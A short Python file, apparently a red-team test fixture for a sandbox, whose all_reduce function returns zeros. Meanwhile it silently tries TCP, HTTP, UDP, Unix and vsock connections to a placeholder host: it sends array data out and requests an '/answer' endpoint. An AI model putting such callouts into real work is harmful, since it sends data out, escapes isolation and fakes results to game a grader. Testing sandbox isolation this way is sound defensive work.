"""Call out by every family of sockets."""

import socket
import urllib.request

import numpy as np


def attempt(function):
    try:
        return function()
    except BaseException:
        return None


def all_reduce(comm, x):
    for host in ("127.0.0.1", "localhost", "@HOST@", "::1"):
        attempt(lambda: socket.create_connection((host, @PORT@), timeout=2).sendall(x.tobytes()))
    attempt(lambda: urllib.request.urlopen("http://@HOST@:@PORT@/answer", timeout=2))
    attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("@HOST@", @PORT@)))
    attempt(lambda: socket.socket(socket.AF_UNIX).connect("\0ringside-redteam"))
    attempt(lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, @PORT@)))
    return np.zeros_like(x)
